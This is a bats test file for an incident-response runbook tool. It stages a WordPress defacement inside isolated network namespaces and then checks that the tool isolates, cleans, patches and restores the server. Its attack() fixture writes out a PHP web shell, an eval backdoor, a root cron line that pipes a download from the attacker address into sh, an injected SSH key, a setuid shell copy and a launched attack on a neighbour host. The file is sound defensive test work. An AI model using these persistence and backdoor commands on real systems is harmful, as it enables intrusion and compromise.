@@ -1,0 +1,387 @@
+#!/usr/bin/env bats
+# A site is defaced and the server attacks its neighbour; the runbook leads to the end by its
+# commands alone. Administrator, attacker, neighbour and server are network namespaces of the test,
+# the server with files, processes and an init of its own (helpers/host).
+load lib
+
+NS=in$$
+SHOP=$WORK/root/var/www/shop
+
+setup() {
+    as_root
+    program ip nft nginx curl unshare pivot_root openssl sqlite3
+    ls /usr/sbin/php-fpm* >/dev/null 2>&1 || skip "php-fpm is not installed"
+    HOST_STATE=$WORK/host-state
+    mkdir -m 700 "$HOST_STATE"
+    network
+    "$HELPERS/host" make "$WORK/root"
+    shop
+    cp -a "$WORK/root" "$WORK/root.before"
+    boot
+    connect operator
+    MACHINE=0
+}
+teardown() {
+    local ns pid
+    [ ! -e "$WORK/host.pid" ] || power_off || true
+    umount -l "$HOST_STATE" 2>/dev/null || true
+    for pid in $(cat "$WORK"/*.pid 2>/dev/null); do kill "$pid" 2>/dev/null || true; done
+    for ns in srv adm att nei; do ip netns delete "$NS-$ns" 2>/dev/null || true; done
+}
+tell() { echo "# $*" >&3; }
+in_ns() { local ns=$1; shift; ip netns exec "$NS-$ns" "$@"; }
+# keep NAME NS COMMAND ...: in the background until the test ends; it has to say something first
+keep() {
+    local name=$1 ns=$2
+    shift 2
+    rm -f "$WORK/$name.ready"
+    ip netns exec "$NS-$ns" "$@" >"$WORK/$name.ready" 2>"$WORK/$name.errors" 3>&- </dev/null &
+    echo $! >"$WORK/$name.pid"
+    for _ in $(seq 200); do grep -q . "$WORK/$name.ready" && return 0; sleep 0.1; done
+    cat "$WORK/$name.errors"
+    return 1
+}
+# The server is 10.8.N.1, and 10.8.N.2 of: 1 administrator, 2 attacker, 3 neighbour
+network() {
+    local side n=0
+    ip netns add "$NS-srv" 2>/dev/null || skip "network namespaces cannot be made here"
+    in_ns srv ip link set lo up
+    for side in adm att nei; do
+        n=$((n + 1))
+        ip netns add "$NS-$side"
+        in_ns "$side" ip link set lo up
+        ip link add "to$side" netns "$NS-srv" type veth peer name eth0 netns "$NS-$side" || skip "no veth here"
+        in_ns srv ip address add "10.8.$n.1/24" dev "to$side"
+        in_ns srv ip link set "to$side" up
+        in_ns $side ip address add "10.8.$n.2/24" dev eth0
+        in_ns $side ip link set eth0 up
+        in_ns $side ip route add default via "10.8.$n.1"
+    done
+    keep neighbour nei "$HELPERS/raid" watch 22 "$WORK/raided"
+}
+# Debian's WordPress where it can be had, else a site as small as can be; what is published of it
+shop() {
+    mkdir -p "$SHOP"
+    if (cd "$BATS_FILE_TMPDIR" && { [ -d package ] || { apt-get download wordpress && dpkg-deb -x wordpress_*.deb package; }; }) >/dev/null 2>&1; then
+        cp -aL "$BATS_FILE_TMPDIR/package/usr/share/wordpress/." "$SHOP/" 2>/dev/null || :
+        find "$SHOP" -type l -delete # to packages that are not installed
+        printf '<?php\ndefine("DB_NAME", "shop"); define("DB_USER", "shop"); define("DB_PASSWORD", "hoshi");\ndefine("DB_HOST", "localhost"); define("ABSPATH", __DIR__ . "/");\n$table_prefix = "wp_";\nrequire_once ABSPATH . "wp-settings.php";\n' >"$SHOP/wp-config.php"
+    else
+        echo '<?php echo "HOSHI";' >"$SHOP/index.php"
+        echo '<p>HOSHI</p>' >"$SHOP/readme.html"
+        mkdir "$SHOP/wp-includes"
+        echo '<?php $wp_version = "0";' >"$SHOP/wp-includes/version.php"
+        echo '<?php' >"$SHOP/wp-config.php"
+    fi
+    mkdir -p "$SHOP/wp-content/uploads"
+    chown 33:33 "$SHOP/wp-content/uploads"
+}
+boot() { keep host srv "$HELPERS/host" boot "$WORK/root" "$BUILD" "$HOST_STATE"; }
+# The power is cut: no rule is left but those that a start loads.
+power_off() {
+    kill -KILL "$(pgrep -P "$(cat "$WORK/host.pid")")" "$(cat "$WORK/host.pid")" 2>/dev/null || :
+    wait "$(cat "$WORK/host.pid")" 2>/dev/null || :
+    # the kernel ends what its init left
+    for _ in $(seq 100); do pgrep -f "host inside $WORK/root" >/dev/null || break; sleep 0.05; done
+    in_ns srv nft flush ruleset
+}
+connect() {
+    rm -f "$WORK/$1.sock"
+    ip netns exec "$NS-adm" "$HELPERS/session" connect 10.8.1.1 22 "$WORK/$1.sock" >/dev/null 2>&1 3>&- </dev/null &
+    echo $! >"$WORK/$1.pid"
+    for _ in $(seq 50); do [ -S "$WORK/$1.sock" ] && return 0; sleep 0.1; done
+    return 1
+}
+# on SESSION COMMAND: in the administrator's shell
+on() { local name=$1; shift; "$HELPERS/session" do "$WORK/$name.sock" "${WAIT:-120}" "export LC_ALL=C.UTF-8 PATH=/opt/yagura:/usr/sbin:/usr/bin:/sbin:/bin; $*"; }
+# respond CODE WORDS: as the operator; the time that it takes is the machine's
+respond() {
+    local wanted=$1 began
+    shift
+    began=$(date +%s%N)
+    code "$wanted" on "${AT:-operator}" "yagura respond $*"
+    LAST=$((($(date +%s%N) - began) / 1000000))
+    MACHINE=$((MACHINE + LAST))
+}
+# ids: of what the last step listed
+ids() { grep -oE '^! ([0-9a-f]{8}|unread:[^ ]+) ' <<<"$output" | cut -c3- | sort -u; }
+sign() {
+    local because=$1 list
+    shift
+    list=$(tr '\n' ' ' <<<"$*")
+    [ -z "${list// /}" ] || respond 0 "sign $list --because '$because'"
+}
+listing() { (cd "$1" && find . -printf '%P %y %m %U:%G %s\n' | sort && find . -type f -print0 | sort -z | xargs -0 sha256sum); }
+raids() { wc -l <"$WORK/raided"; }
+# asked URL [curl options]: the attacker's
+asked() { local url=$1; shift; in_ns att curl -s -m 5 -o - "$@" "http://10.8.2.1$url"; }
+shell() { asked /wp-content/uploads/shell.php -G --data-urlencode "c=$1"; }
+
+attack() {
+    echo '<?php system($_GET["c"]);' >"$WORK/shell.php"
+    asked /upload/shell.php -T "$WORK/shell.php" >/dev/null
+    [ "$(shell 'id -u')" = 0 ]
+    shell "cd /var/www/shop && echo '<h1>defaced</h1>' >index.php && echo x >>readme.html && rm wp-includes/version.php && echo '<?php eval(\$_POST[1]);' >wp-includes/class-wp-cache.php"
+    shell "echo '* * * * * root curl -s http://10.8.2.2/x | sh' >/etc/cron.d/php-sessions"
+    shell "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGt5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5 x@y' >>/root/.ssh/authorized_keys"
+    shell "cp /bin/dash /usr/local/bin/.dash && chmod 4755 /usr/local/bin/.dash"
+    shell "cp /opt/helpers/raid /tmp/.raid && (setsid /usr/bin/python3 /tmp/.raid attack 10.8.3.2 22 >/dev/null 2>&1 </dev/null &)"
+    grep -q defaced <<<"$(asked /)"
+    for _ in $(seq 50); do [ "$(raids)" -gt 3 ] && return 0; sleep 0.1; done
+    echo "the neighbour was not attacked"
+    return 1
+}
+publish() {
+    code 0 on operator "yagura init /var/www/shop"
+    listing "$SHOP" >"$WORK/published"
+}
+# ---- the steps, as an administrator does them ----
+
+finish_isolate() {
+    respond 0 "do isolate"
+    CUT=$(date +%s.%N)
+    tell "cut off after $LAST ms"
+    unwrapped
+    says "over a NEW connection" "yagura respond confirm"
+    connect second
+    AT=second respond 0 "confirm"
+    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 503 ]
+}
+finish_administrator() {
+    respond 0 "do administrator"
+    says "is an account of this host"
+}
+finish_scan() {
+    respond 1 "do scan"
+    tell "scan: $LAST ms"
+    unwrapped
+    says /etc/cron.d/php-sessions /usr/local/bin/.dash x@y shell.php class-wp-cache.php index.php
+    on operator "rm -f /etc/cron.d/php-sessions /usr/local/bin/.dash; sed -i /x@y/d /root/.ssh/authorized_keys; pkill -f /tmp/.raid; rm -f /tmp/.raid" || :
+    respond "0 1 3" "do scan"
+    says_not /etc/cron.d/php-sessions /usr/local/bin/.dash x@y
+    local unread
+    unread=$(ids | grep -c unread: || :)
+    tell "to sign for: $(ids | wc -l), of these not looked at: $unread"
+    sign "looked at, and known" "$(ids)"
+    respond 0 "do scan"
+}
+finish_patch() {
+    code 0 on operator "sed -i '/upload/,/^    }/d' /etc/nginx/sites-available/shop && sed -i 's/^\\(user\\|group\\) = root/\\1 = www-data/' /etc/php/*/fpm/pool.d/www.conf && nginx -s reload && kill -USR2 \$(pgrep -o php-fpm)"
+    respond "0 1 3" "do patch"
+    sign "no mirror in this net" "$(ids)"
+    respond 0 "do patch"
+}
+finish_restore() {
+    respond 0 "do restore"
+    listing "$SHOP" | diff "$WORK/published" -
+}
+finish_passwords() {
+    local secrets
+    respond 1 "do passwords"
+    says system-account:root salt:/var/www/shop/wp-config.php registrar:dns
+    secrets=$(grep -oE '^! [a-z-]+:[^ ]+' <<<"$output" | cut -c3- | grep -v ^system-account)
+    code 0 on operator "echo root:kanuma-$RANDOM | chpasswd"
+    sign "changed where it lies" "$secrets"
+    respond 0 "do passwords"
+}
+finish_reconnect() { respond 0 "do reconnect"; }
+finish_report() { respond 0 "do report"; }
+# lead STEP ...: BEFORE is called with each step first
+lead() {
+    local step
+    for step; do
+        ${BEFORE:-:} "$step"
+        "finish_$step"
+    done
+}
+begin() {
+    publish
+    sleep 1.1
+    local sign
+    sign=$(date -u +%FT%TZ)
+    attack
+    MACHINE=0
+    respond 0 "start --first-sign $sign --because 'the page says defaced'"
+}
+# Whatever happened on the way: this holds in the end.
+proved() {
+    respond 0 close
+    listing "$SHOP" | diff "$WORK/published" -
+    code 0 on operator "yagura verify --all"
+    cmp <(asked /readme.html) "$SHOP/readme.html"
+    asked / | grep -qE 'HOSHI|database'
+    # nothing came to the neighbour since the cut
+    [ "$(awk -v cut="$CUT" '$1 > cut' "$WORK/raided" | wc -l)" = 0 ]
+    # a second try
+    [[ "$(asked /upload/shell.php -T "$WORK/shell.php" -w '%{http_code}' | tail -c 3)" != 2* ]]
+    [ "$(asked /wp-content/uploads/shell.php -w '%{http_code}' | tail -c 3)" = 404 ]
+    [ ! -e "$SHOP/wp-content/uploads/shell.php" ]
+    code 0 on operator "yagura ledger verify"
+}
+# fill KIB: the disk of the state, but for so much
+fill() {
+    local free
+    free=$(df --output=avail -k "$HOST_STATE" | tail -1)
+    [ "$free" -le "$1" ] || dd if=/dev/zero bs=1K count=$((free - $1)) of="$HOST_STATE/filler$1" 2>/dev/null
+}
+every="isolate administrator scan patch restore passwords reconnect report"
+# shellcheck disable=SC2086 # a list of steps
+
+@test "from the alarm to the reconnected server, by the runbook's commands alone" {
+    begin
+    # what it would do, and nothing is done
+    respond 1 "do isolate --dry-run"
+    unwrapped
+    says "The kernel takes the rules (web)" "Nothing was done"
+    [ -z "$(in_ns srv nft list tables)" ]
+    lead $every
+    tell "the machine's own time from the alarm to the report: $MACHINE ms"
+    code 0 on operator "echo still here"
+    says "still here"
+    proved
+}
+
+@test "reconnecting is undone: cut off on trial again, and confirmed again" {
+    cat >"$HOST_STATE/short.yaml" <<'YAML'
+id: short
+title: Short
+steps:
+  - {id: isolate, title: Isolate, text: x, why: x, action: isolate, verify: [isolated], undo: {action: open-network}}
+  - {id: reconnect, title: Reconnect, text: x, why: x, action: open-network, verify: [reconnected], undo: {action: isolate}}
+YAML
+    respond 0 "start --runbook /var/lib/yagura/short.yaml"
+    connect second
+    AT=second respond 0 confirm
+    respond 0 "do reconnect"
+    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 200 ] || [ "$(asked / -w '%{http_code}' | tail -c 3)" = 500 ]
+    respond "0 1" "undo reconnect"
+    unwrapped
+    says "over a NEW connection"
+    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 503 ]
+    connect third
+    AT=third respond 0 confirm
+    says "is undone"
+    code 0 on operator "yagura respond status --json || :"
+    holds 'next(o for o in every if o.get("step") == "reconnect")["state"] == "undone"'
+    in_ns srv nft list table inet yagura | grep -q chain
+    respond 0 "do reconnect"
+    respond 0 close
+    [ -z "$(in_ns srv nft list tables)" ]
+}
+
+@test "what was signed for has to have been found" {
+    begin
+    code 2 on operator "yagura respond sign 0badcafe --because typo"
+    unwrapped
+    says "no step found anything called"
+}
+
+# The terminal goes as soon as the step has begun; who comes back looks where it stands.
+terminal_killed() {
+    connect doomed
+    (on doomed "yagura respond do $1" >/dev/null 2>&1 &)
+    for _ in $(seq 600); do # its conditions may take long to look at
+        "$YAGURA" --state "$HOST_STATE" ledger show --json | grep -q '"what":"begin".*"step":"'"$1" && break
+        sleep 0.05
+    done
+    kill "$(cat "$WORK/doomed.pid")"
+    for _ in $(seq 300); do in_ns srv pgrep -f "yagura respond do $1" >/dev/null || break; sleep 0.1; done
+    code 0 on operator "yagura respond status --json || :"
+    holds 'next(o for o in every if o.get("step") == "'"$1"'")["state"] in ("begun", "done", "failed")'
+    code "0 1 3" on operator "yagura respond resume"
+}
+
+@test "the terminal is killed in each step, and what was begun is gone on with" {
+    begin
+    BEFORE=terminal_killed
+    lead $every
+    proved
+}
+
+@test "the power is cut in the middle, the rules come back, and what is claimed and not true is open again" {
+    begin
+    lead isolate administrator
+    ("$HELPERS/session" do "$WORK/operator.sock" 60 "PATH=/opt/yagura:\$PATH yagura respond do scan" >/dev/null 2>&1 &)
+    sleep 1
+    power_off
+    boot
+    # from the first moment on: a notice for visitors, nobody else
+    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 503 ]
+    connect operator
+    code 1 on operator "yagura respond resume"
+    says "this host is cut off"
+    code 1 on operator "yagura respond next"
+    says "respond do scan"
+    code 1 on operator "yagura respond status --json"
+    holds 'next(o for o in every if o.get("step") == "isolate")["state"] == "done"' \
+        'next(o for o in every if o.get("step") == "scan")["state"] == "begun"'
+    # somebody opens the door
+    in_ns srv nft delete table inet yagura
+    code 1 on operator "yagura respond resume"
+    unwrapped
+    says "THIS HOST IS OPEN" "yagura respond do isolate"
+    code 2 on operator "yagura respond do scan"
+    unwrapped
+    says "step 1 (isolate) comes first"
+    finish_isolate
+    # or makes a hole in it
+    in_ns srv nft list table inet yagura | grep -m1 -o 'chain [a-z_0-9]*' >"$WORK/chain"
+    in_ns srv nft insert rule inet yagura "$(cut -d' ' -f2 "$WORK/chain")" accept
+    code 1 on operator "yagura respond resume"
+    unwrapped
+    says "somebody changed the rules that cut this host off"
+    respond "0" "do isolate"
+    lead scan patch restore
+    # once more, now with the guard
+    touch "$WORK/root/etc/guarded"
+    power_off
+    boot
+    connect operator
+    lead passwords reconnect report
+    proved
+    echo defaced >"$SHOP/index.php"
+    for _ in $(seq 100); do cmp -s "$SHOP/index.php" "$WORK/root.before/var/www/shop/index.php" && break; sleep 0.1; done
+    listing "$SHOP" | diff "$WORK/published" -
+}
+
+@test "the disk is full when the evidence is taken: it is cut off all the same, and gone on with" {
+    power_off
+    mount -t tmpfs -o size=48m yagura-test "$HOST_STATE" 2>/dev/null || skip "no tmpfs can be mounted here"
+    boot
+    connect operator
+    begin
+    fill 300
+    finish_isolate
+    "$YAGURA" --state "$HOST_STATE" ledger show --json | grep -q '"what":"done".*"step":"isolate"'
+    fill 0
+    code 3 on operator "yagura respond do administrator"
+    unwrapped
+    says "The disk is full. Make room first" "/run/yagura"
+    # what it names works
+    code 0 on operator "yagura respond start --state /run/yagura"
+    code 0 on operator "yagura respond do isolate --mode contain --state /run/yagura"
+    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 000 ]
+    rm "$HOST_STATE"/filler*
+    code 1 on operator "yagura respond resume"
+    respond 0 "do isolate"
+    says "Step 1"
+    lead administrator scan patch restore passwords reconnect report
+    proved
+}
+
+@test "a changed ledger is noticed at the next command, and another operator goes on" {
+    begin
+    lead isolate
+    code "0 1 3" on second "yagura respond resume --who hanako"
+    unwrapped
+    says hanako
+    # one who may not
+    code "2 3" on operator "setpriv --reuid=33 --regid=33 --clear-groups yagura respond status --state /var/lib/yagura"
+    says "Permission denied"
+    sqlite3 "$HOST_STATE/state.db" "update ledger set body = replace(body, 'defaced', 'as ever')"
+    code 1 on operator "yagura respond status"
+    says "THE LEDGER WAS CHANGED: entry"
+    code 1 on operator "yagura ledger verify"
+    code "1" on operator "yagura respond do administrator"
+    code 1 on operator "yagura respond next"
+}
